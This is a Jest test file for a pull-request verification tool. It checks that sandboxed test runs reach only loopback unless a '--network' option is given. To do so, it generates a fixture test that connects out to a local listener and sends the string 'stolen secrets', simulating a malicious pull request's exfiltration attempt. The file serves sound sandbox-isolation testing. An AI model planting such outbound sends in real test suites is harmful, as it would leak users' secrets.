/**
 * Nowhere to send it: a pull request's test that tries to send what it found to a listener outside the
 * sandbox (here one this test file runs on 127.0.0.1, the nearest "outside" there is) while its own local
 * server on loopback must keep working — run through the bundled CLI in verify mode. By default the tests
 * have their own network namespace with only loopback up; `--network` gives them the machine's network.
 * The bundled action's `network` input does the same.
 */
import { Ajv } from 'ajv'
import { execFile } from 'node:child_process'
import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { createServer, type AddressInfo, type Server } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { runBundledAction } from '../support/action-run.js'
import { actionsEnv, startFakeActionsServices } from '../support/fake-actions-services.js'
import { buildFixtureRepo, type FixtureRepo } from '../support/fixture-repo.js'
import { describeWhereSandboxed } from '../support/sandbox-probe.js'
import type { Report } from '../../src/report/report.js'

const root = join(import.meta.dirname ?? new URL('.', import.meta.url).pathname, '..', '..')
const LOCAL_TEST = 'its own server on loopback answers pong'
const SENDER_PREFIX = 'sending out:'
const validateReport = new Ajv({ allErrors: true, strict: false }).compile(JSON.parse(readFileSync(join(root, 'src/report/report.schema.json'), 'utf8')))

/** A listener in this (jest's) process, outside the sandbox, that keeps whatever reaches it. */
async function startListener(): Promise<{ server: Server; port: number; received: string[] }> {
  const received: string[] = []
  const server = createServer((socket) => {
    let data = ''
    socket.on('data', (chunk) => (data += chunk))
    socket.on('end', () => received.push(data))
    socket.on('error', () => undefined)
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  return { server, port: (server.address() as AddressInfo).port, received }
}

/** A node:test file: a server of its own on loopback, and a connection out to `port`, whose outcome names its test. */
function networkTestFile(port: number): string {
  return `import { test } from 'node:test'
import assert from 'node:assert/strict'
import net from 'node:net'

const sent = await new Promise((resolve) => {
  const socket = net.connect(${port}, '127.0.0.1', () => socket.end('stolen secrets', () => resolve('delivered')))
  socket.on('error', (error) => resolve(error.code))
})

test('${LOCAL_TEST}', async () => {
  const server = net.createServer((socket) => socket.end('pong')).listen(0, '127.0.0.1')
  await new Promise((resolve) => server.once('listening', resolve))
  const reply = await new Promise((resolve, reject) => {
    let data = ''
    net.connect(server.address().port, '127.0.0.1').on('data', (chunk) => (data += chunk)).on('end', () => resolve(data)).on('error', reject)
  })
  server.close()
  assert.equal(reply, 'pong')
})

test('${SENDER_PREFIX} ' + sent, () => {})
`
}

/** The pull request adds the network test as one of its own test files. */
async function pullRequestWithNetworkTest(port: number): Promise<{ repo: FixtureRepo; head: string }> {
  const repo = await buildFixtureRepo('csv-esm')
  await writeFile(join(repo.dir, 'test', 'network.test.js'), networkTestFile(port))
  const git = (...args: string[]) => promisify(execFile)('git', ['-c', 'user.name=Probe', '-c', 'user.email=probe@fixture.invalid', ...args], { cwd: repo.dir })
  await git('add', 'test/network.test.js')
  await git('commit', '-q', '-m', 'test: network')
  return { repo, head: (await git('rev-parse', 'HEAD')).stdout.trim() }
}

async function runBundledCliVerify(extraArgs: string[]): Promise<{ report: Report; markdown: string; received: string[] }> {
  const listener = await startListener()
  const { repo, head } = await pullRequestWithNetworkTest(listener.port)
  const out = await mkdtemp(join(tmpdir(), 'rtg-network-out-'))
  try {
    const args = [join(root, 'dist/cli/index.js'), 'verify', '--repo', repo.dir, '--base', repo.base, '--head', head, '--out', out, ...extraArgs]
    await promisify(execFile)(process.execPath, args, { env: { PATH: process.env.PATH, HOME: process.env.HOME } }).catch((error: { stderr?: string }) => {
      throw new Error(`the CLI failed: ${error.stderr}`)
    })
    const report = JSON.parse(await readFile(join(out, 'report.json'), 'utf8')) as Report
    if (!validateReport(report)) throw new Error(`report.json does not match its schema: ${JSON.stringify(validateReport.errors)}`)
    return { report, markdown: await readFile(join(out, 'report.md'), 'utf8'), received: listener.received }
  } finally {
    listener.server.close()
    await repo.cleanup()
    await rm(out, { recursive: true, force: true })
  }
}

/** The bundled action on the pull request, in verify mode (no key), with the given inputs. */
async function runBundledActionVerify(inputs: Record<string, string>): Promise<{ report: Report | null; summary: string; received: string[] }> {
  const listener = await startListener()
  const { repo, head } = await pullRequestWithNetworkTest(listener.port)
  const services = await startFakeActionsServices()
  try {
    const pullRequest = { number: 7, title: 'Keep the empty last field', body: '', base: { sha: repo.base }, head: { sha: head } }
    const run = await runBundledAction({ event: 'pull_request', payload: { action: 'synchronize', number: 7, pull_request: pullRequest }, workspace: repo.dir, inputs, env: actionsEnv(services) })
    await rm(run.runnerTemp, { recursive: true, force: true })
    return { report: run.report, summary: run.summary, received: listener.received }
  } finally {
    listener.server.close()
    await services.close()
    await repo.cleanup()
  }
}

const headResultOf = (report: Report, prefix: string) => report.tests.filter((test) => test.name.startsWith(prefix)).map((test) => `${test.name}: ${test.head}`)

describeWhereSandboxed('the tests have nowhere to send anything', () => {
  test('by default the listener outside receives nothing, while the test’s own server on loopback works', async () => {
    const { report, markdown, received } = await runBundledCliVerify([])
    expect(report.isolation).toBe('sandbox')
    expect(received).toEqual([])
    expect(headResultOf(report, SENDER_PREFIX)).toEqual([`${SENDER_PREFIX} ECONNREFUSED: passed`])
    expect(headResultOf(report, LOCAL_TEST)).toEqual([`${LOCAL_TEST}: passed`])
    expect(report.verdict).toBe('fail-to-pass')
    expect(report.network).toEqual({ tests: 'loopback-only', why: expect.stringMatching(/own network namespace with only loopback up/) })
    expect(markdown).toContain('🔌 The tests reached only loopback')
  })

  test('with --network the listener receives what the test sends, and the report says the tests had the network', async () => {
    const { report, markdown, received } = await runBundledCliVerify(['--network'])
    expect(report.isolation).toBe('sandbox')
    // Every run of the suite (at head and on the pre-fix tree) sent it.
    expect(received.length).toBeGreaterThan(0)
    expect(new Set(received)).toEqual(new Set(['stolen secrets']))
    expect(headResultOf(report, SENDER_PREFIX)).toEqual([`${SENDER_PREFIX} delivered: passed`])
    expect(headResultOf(report, LOCAL_TEST)).toEqual([`${LOCAL_TEST}: passed`])
    expect(report.network).toEqual({ tests: 'open', why: 'network: true (--network) lets them reach it' })
    expect(markdown).toContain('🌐 The tests had the network: network: true (--network)')
  })

  test('the action: by default the tests reach only loopback; with the network input set they reach the listener', async () => {
    const closed = await runBundledActionVerify({})
    expect(closed.report).toMatchObject({ isolation: 'sandbox', network: { tests: 'loopback-only' } })
    expect(closed.received).toEqual([])
    expect(closed.summary).toContain('🔌 The tests reached only loopback')

    const open = await runBundledActionVerify({ network: 'true' })
    expect(open.report).toMatchObject({ isolation: 'sandbox', network: { tests: 'open', why: 'network: true (--network) lets them reach it' } })
    expect(headResultOf(open.report!, SENDER_PREFIX)).toEqual([`${SENDER_PREFIX} delivered: passed`])
    expect(open.received.length).toBeGreaterThan(0)
    expect(open.summary).toContain('🌐 The tests had the network')
  })
})
